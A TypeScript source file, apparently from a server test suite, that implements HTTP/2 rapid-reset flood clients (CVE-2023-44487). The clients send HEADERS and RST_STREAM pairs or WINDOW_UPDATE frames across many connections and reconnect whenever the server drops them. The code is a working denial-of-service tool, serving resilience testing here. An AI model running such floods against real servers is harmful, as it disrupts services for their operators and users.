/**
 * Clients that start streams and cancel them at once (rapid reset, CVE-2023-44487). Each connection sends HEADERS and
 * RST_STREAM as fast as its socket accepts them, with or without acknowledging SETTINGS before, and is reopened when
 * the server ends it. Alternatively it sends WINDOW_UPDATE frames for the connection. The clients run in another
 * thread, so that they do not delay the measuring clients.
 */
import { connect, type Socket } from 'node:net';
import { isMainThread, parentPort, Worker, workerData } from 'node:worker_threads';
import { frameOf, grpcHeaders, PREFACE } from './http2-connection.ts';

export interface Flood {
  readonly path: string;
  readonly host: string;
  readonly port: number;
  readonly connections: number;
  /** True when clients acknowledge SETTINGS. */
  readonly isPolite: boolean;
  /** Absent: streams. */
  readonly sends?: 'window-updates' | undefined;
}

export interface FloodCounts {
  /** Number of cancelled streams, or of WINDOW_UPDATE frames. */
  readonly streams: number;
  /** Number of connections that the server has ended. */
  readonly ended: number;
}

const FRAME_HEADER_BYTES = 9;
const SETTINGS = 4;
const HEADERS = 1;
const RST_STREAM = 3;
const WINDOW_UPDATE = 8;
const END_HEADERS = 4;
const ACK = 1;
const CANCEL = 8;
/** Streams per write, which is about 64 KiB. */
const STREAMS_PER_WRITE = 500;
const UPDATES = Buffer.alloc(
  STREAMS_PER_WRITE * (FRAME_HEADER_BYTES + 4),
  frameOf({ type: WINDOW_UPDATE, flags: 0, stream: 0, payload: Buffer.from([0, 0, 0, 1]) }),
);
/** Highest stream id that a connection uses. */
const STREAM_MAX = 2 ** 31 - 2 * STREAMS_PER_WRITE;
/** Pause before a client connects again. */
const REST_MS = 10;

/** A flood that runs until `stop`. */
export class RunningFlood {
  readonly #worker: Worker;

  constructor(flood: Flood) {
    this.#worker = new Worker(import.meta.filename, { workerData: flood, execArgv: ['--conditions=source'] });
  }

  async stop(): Promise<FloodCounts> {
    const counts = new Promise<FloodCounts>((resolve) => {
      this.#worker.once('message', resolve);
    });
    this.#worker.postMessage('stop', []);
    const counted = await counts;
    await this.#worker.terminate();
    return counted;
  }
}

class Flooding {
  readonly #flood: Flood;
  readonly #headers: Buffer;
  readonly #counts = { streams: 0, ended: 0 };
  readonly #sockets = new Set<Socket>();

  constructor(flood: Flood) {
    this.#flood = flood;
    this.#headers = grpcHeaders(flood.path);
    for (let n = 0; n < flood.connections; n++) this.#open();
  }

  stop(): FloodCounts {
    for (const socket of this.#sockets) socket.removeAllListeners('close').destroy();
    return this.#counts;
  }

  #open(): void {
    const { host, port, isPolite } = this.#flood;
    const socket = connect({ host, port });
    this.#sockets.add(socket);
    let stream = 1;
    const send = (): void => {
      do {
        stream += 2 * STREAMS_PER_WRITE;
        this.#counts.streams += STREAMS_PER_WRITE;
      } while (socket.write(this.#pairs(stream - 2 * STREAMS_PER_WRITE)) && stream < STREAM_MAX);
    };
    socket.on('error', () => undefined);
    socket.once('connect', () => {
      socket.write(PREFACE);
      socket.write(frameOf({ type: SETTINGS, flags: 0, stream: 0, payload: Buffer.alloc(0) }));
      if (!isPolite) send();
    });
    let isFirst = true;
    onSettings(socket, () => {
      if (!isPolite) return;
      socket.write(frameOf({ type: SETTINGS, flags: ACK, stream: 0, payload: Buffer.alloc(0) }));
      if (isFirst) send();
      isFirst = false;
    });
    socket.on('drain', send);
    socket.once('close', () => {
      this.#sockets.delete(socket);
      this.#counts.ended += 1;
      setTimeout(() => this.#open(), REST_MS);
    });
  }

  #pairs(from: number): Buffer {
    if (this.#flood.sends === 'window-updates') return UPDATES;
    const reason = Buffer.from([0, 0, 0, CANCEL]);
    const frames: Buffer[] = [];
    for (let stream = from; stream < from + 2 * STREAMS_PER_WRITE; stream += 2) {
      frames.push(frameOf({ type: HEADERS, flags: END_HEADERS, stream, payload: this.#headers }));
      frames.push(frameOf({ type: RST_STREAM, flags: 0, stream, payload: reason }));
    }
    return Buffer.concat(frames);
  }
}

/** Reads the server's frames and reports each SETTINGS frame that is not an acknowledgement. */
function onSettings(socket: Socket, told: () => void): void {
  let rest = Buffer.alloc(0);
  socket.on('data', (piece: Buffer) => {
    rest = Buffer.concat([rest, piece]);
    while (rest.length >= FRAME_HEADER_BYTES) {
      const end = FRAME_HEADER_BYTES + rest.readUIntBE(0, 3);
      if (rest.length < end) return;
      if (rest.readUInt8(3) === SETTINGS && (rest.readUInt8(4) & ACK) === 0) told();
      rest = rest.subarray(end);
    }
  });
}

if (!isMainThread && parentPort !== null) {
  const port = parentPort;
  const flooding = new Flooding(workerData as Flood);
  port.once('message', () => port.postMessage(flooding.stop(), []));
}
